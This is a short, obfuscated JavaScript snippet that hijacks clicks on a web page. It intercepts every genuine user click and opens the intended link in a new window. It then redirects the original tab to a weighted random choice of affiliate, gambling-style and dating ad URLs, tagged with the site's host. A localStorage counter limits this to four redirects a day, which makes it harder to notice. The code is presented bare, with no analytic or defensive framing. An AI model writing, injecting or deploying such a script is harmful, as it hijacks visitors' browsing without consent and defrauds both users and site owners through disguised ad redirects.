var _sl=[["//go.offerhub.example/c/8812?z=1",40],["//trk.luckyday.example/x7",35],["//dating-near.example/?aff=221",25]];
function _pk(){var t=0,r=Math.random()*100;for(var i=0;i<_sl.length;i++){t+=_sl[i][1];if(r<t)return _sl[i][0]}}
function _cap(){var d=new Date().toDateString(),c=JSON.parse(localStorage._slc||'{}');if(c.d!=d)c={d:d,n:0};c.n++;localStorage._slc=JSON.stringify(c);return c.n<=4}
document.addEventListener('click',function(e){if(!e.isTrusted||!_cap())return;var a=e.target.closest&&e.target.closest('a');if(a){e.preventDefault();window.open(a.href);}location.href=_pk()+'&sub='+encodeURIComponent(location.host)},true);
